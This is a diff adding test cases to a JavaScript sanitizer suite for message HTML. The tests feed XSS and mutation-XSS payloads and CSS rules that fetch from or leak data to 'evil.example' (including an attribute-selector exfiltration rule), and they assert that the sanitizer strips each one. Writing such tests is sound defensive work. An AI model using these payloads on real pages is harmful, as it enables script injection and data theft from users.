@@ -59,6 +59,19 @@ describe('HTML of a message', () => {
     '<table background="https://evil.example/x"><td background="https://evil.example/y">',
     '<a name="x" id="app" href="#x">x</a>',
     '<select><style></select><img src=x onerror=alert(1)></style></select>',
+    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
+    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
+    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
+    '<div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>',
+    '<sty\u0000le>*{}</style><img src=x onerror=alert(1)>',
+    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" onload=alert(1)>',
+    '<img src="cid:%22%3E%3Cscript%3Ealert(1)%3C/script%3E" lowsrc=x dynsrc=x longdesc=x>',
+    '<a href="https://evil.example/" ping="https://evil.example/" target=_blank download>x</a>',
+    '<map><area shape=rect href=javascript:alert(1)></map>',
+    '<svg><use href="data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x"/></svg>',
+    '<p style="}*{background:u\\72l(//evil.example)}">x</p><p style="--a:url(//x);background:var(--a)">y</p>',
+    "<p style=\"background:-webkit-image-set('//evil.example' 1x);mask:src('//x')\">x</p>",
   ];
   for (const attack of attacks) {
     it(`takes the harm out of ${attack.slice(0, 60)}`, () => {
@@ -93,6 +106,24 @@ describe('HTML of a message', () => {
     assert.match(document, new RegExp(`<img src="${png}" />`));
     assert.match(document, /P — https:\/\/x\.example\/p\.gif/);
     assert.deepEqual(blocked, [{ what: 'picture', address: 'https://x.example/p.gif' }]);
+  });
+
+  it('keeps no rule of a style sheet that asks, in whatever rule it stands', () => {
+    const asks = 'b{background:url(https://evil.example/x)}';
+    for (const sheet of [
+      `@import 'https://evil.example/x';`,
+      `@layer a{${asks}}`,
+      `@supports (display:block){${asks}}`,
+      `@container (width>1px){${asks}}`,
+      `@scope (b){${asks}}`,
+      `@starting-style{${asks}}`,
+      `@media all{@import 'https://evil.example/x';${asks}}`,
+      `@property --x{syntax:'<url>';initial-value:url(https://evil.example/x);inherits:false}`,
+      `@namespace svg url(https://evil.example/x);`,
+      `a{&:is(*){background:url(https://evil.example/x)}}`,
+      `input[value^="a"]{list-style:url(https://evil.example/x)}`,
+    ])
+      assert.doesNotMatch(safeStyleSheet(sheet).css, /evil|import|url/i, sheet);
   });
 
   it('stays small and shallow whatever it is given', () => {
